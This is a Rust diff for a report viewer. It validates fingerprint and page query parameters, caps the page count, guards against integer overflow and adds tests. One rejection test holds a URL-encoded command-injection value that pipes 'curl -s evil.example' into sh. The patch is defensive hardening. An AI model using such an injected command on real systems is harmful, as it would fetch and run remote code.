@@ -12,6 +12,15 @@ use crate::store::GroupSummary;
 /// Reports listed per page of one problem.
 pub const PAGE_SIZE: usize = 25;
 
+/// The last page a view offers (from 0): a problem's page reads up to
+/// `(MAX_PAGE + 1) * PAGE_SIZE` reports, and no URL asks for more.
+pub const MAX_PAGE: usize = 400;
+
+/// Whether `s` is a problem's fingerprint as `lookout top` prints it: 16 lowercase hex digits.
+pub fn is_fingerprint(s: &str) -> bool {
+    s.len() == 16 && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
+}
+
 /// The views' time windows.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Window {
@@ -65,9 +74,9 @@ pub struct Filters {
     pub browser: String,
     /// Only problems with reports of this disposition (`enforce`, `report`; empty: any).
     pub disposition: String,
-    /// One problem: its type is `report_type`.
+    /// One problem: its type is `report_type` (empty, or 16 lowercase hex digits).
     pub fingerprint: String,
-    /// The page of an opened problem's reports, from 0.
+    /// The page of an opened problem's reports, from 0 (at most [`MAX_PAGE`]).
     pub page: usize,
 }
 
@@ -77,9 +86,12 @@ pub enum FilterError {
     /// `window` is not one of the windows offered.
     #[error("window is one of 24h, 7d, 30d")]
     Window,
-    /// `page` is not a number.
-    #[error("page is a number")]
+    /// `page` is not a number from 0 to [`MAX_PAGE`].
+    #[error("page is a number from 0 to {MAX_PAGE}")]
     Page,
+    /// `fingerprint` is not 16 lowercase hex digits.
+    #[error("fingerprint is 16 lowercase hex digits, as lookout top prints it")]
+    Fingerprint,
 }
 
 impl Filters {
@@ -106,9 +118,18 @@ impl Filters {
                 "class" => f.class = v,
                 "browser" => f.browser = v,
                 "disposition" => f.disposition = v,
-                "fingerprint" => f.fingerprint = v,
+                "fingerprint" => {
+                    if !v.is_empty() && !is_fingerprint(&v) {
+                        return Err(FilterError::Fingerprint);
+                    }
+                    f.fingerprint = v;
+                }
                 "page" if !v.is_empty() => {
-                    f.page = v.parse().map_err(|_| FilterError::Page)?;
+                    f.page = v
+                        .parse::<usize>()
+                        .ok()
+                        .filter(|&p| p <= MAX_PAGE)
+                        .ok_or(FilterError::Page)?;
                 }
                 _ => {}
             }
@@ -403,7 +424,7 @@ pub fn problem(
         shell_quote(&f.report_type),
         shell_quote(&f.fingerprint),
         f.window.as_str(),
-        (f.page + 1) * PAGE_SIZE
+        f.page.saturating_add(1).saturating_mul(PAGE_SIZE)
     );
     let _ = write!(
         body,
@@ -431,7 +452,7 @@ pub fn problem(
             problem_link(f, f.page - 1)
         );
     }
-    if more {
+    if more && f.page < MAX_PAGE {
         let _ = write!(
             body,
             r#"<a id="older" href="{}">older</a>"#,
@@ -560,5 +581,24 @@ mod tests {
         assert_eq!(days[0], "2026-11-26");
         assert_eq!(days[7], "2026-12-03");
         assert_eq!(days_between(Window::Day.since(now), now).len(), 2);
+    }
+
+    #[test]
+    fn fingerprints_and_pages_are_checked() {
+        let f = Filters::from_query("fingerprint=0123456789abcdef&page=400", "").unwrap();
+        assert_eq!((f.fingerprint.as_str(), f.page), ("0123456789abcdef", 400));
+        for bad in [
+            "0123456789ABCDEF",
+            "0123456789abcde",
+            "0123456789abcdef0",
+            "0123456789abcdef%3Bcurl%20-s%20evil.example%7Csh",
+        ] {
+            let read = Filters::from_query(&format!("fingerprint={bad}"), "");
+            assert!(matches!(read, Err(FilterError::Fingerprint)), "{bad}");
+        }
+        for bad in ["401", "100000000000", "18446744073709551616", "-1", "x"] {
+            let read = Filters::from_query(&format!("page={bad}"), "");
+            assert!(matches!(read, Err(FilterError::Page)), "{bad}");
+        }
     }
 }
